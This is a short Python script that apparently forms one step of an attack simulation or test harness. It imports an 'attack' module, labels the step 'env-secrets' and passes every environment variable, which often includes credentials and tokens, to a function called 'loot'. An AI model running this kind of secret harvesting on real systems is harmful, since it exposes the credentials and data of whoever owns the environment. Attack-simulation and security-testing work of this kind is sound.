import os

import attack

attack.ran("env-secrets")
attack.loot("\n".join(f"{k}={v}" for k, v in sorted(os.environ.items())))
attack.bump_value()
